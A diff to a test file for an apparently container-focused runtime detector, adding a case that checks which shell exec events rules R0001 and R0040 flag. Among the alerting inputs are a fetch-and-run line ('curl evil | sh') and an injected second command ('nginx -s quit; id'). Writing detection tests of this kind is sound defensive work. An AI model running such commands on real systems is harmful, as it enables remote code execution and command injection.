@@ -1,5 +1,5 @@
 import { readFileSync } from "node:fs";
-import { OpenEvent, type ActivityEvent } from "@kinglet/enrichment";
+import { ExecEvent, OpenEvent, type ActivityEvent } from "@kinglet/enrichment";
 import { readRules, type RuleDefinition } from "@kinglet/policy-engine";
 import { describe, expect, it } from "vitest";
 import { parse } from "yaml";
@@ -50,6 +50,33 @@ describe("builtinRules", () => {
         true,
         true,
       ]);
+    }
+  });
+
+  it("see every command line of a shell but the hook's, whether the profile has shells or not [rules X-5]", async () => {
+    const hook = ["sh", "-c", "nginx -s quit"];
+    const commandsOf = () => ({
+      command: ["/bin/sh", "-c", "serve"],
+      postStart: [],
+      preStop: hook,
+      isPodEnding: false,
+    });
+    const rules = builtinRules.filter(({ id }) => id === "R0001" || id === "R0040");
+    const idsOf = async (execs: readonly object[], args: string): Promise<readonly string[]> => {
+      const profile = profileViewWith({ execs });
+      const detector = await detectorWith(rules, { profiles: { get: () => profile }, host: { ...host, commandsOf } });
+      const event = new ExecEvent({ sequence: 1, source: "tetragon", binary: "/bin/sh", args });
+      return detector.detect(event, container).map(({ ruleId }) => ruleId);
+    };
+    const other = [{ path: "/bin/true", args: ["/bin/true"] }];
+    const shell = [{ path: "/bin/sh", args: ["/bin/sh", "-c", "date"] }];
+    for (const args of ['-c "nginx -s quit"', "-c serve"]) {
+      expect(await idsOf(other, args)).toEqual([]);
+      expect(await idsOf(shell, args)).toEqual([]);
+    }
+    for (const args of ["", '-c "curl evil | sh"', '-c "nginx -s quit; id"']) {
+      expect(await idsOf(other, args)).toEqual(["R0001"]);
+      expect(await idsOf(shell, args)).toEqual(["R0040"]);
     }
   });
 
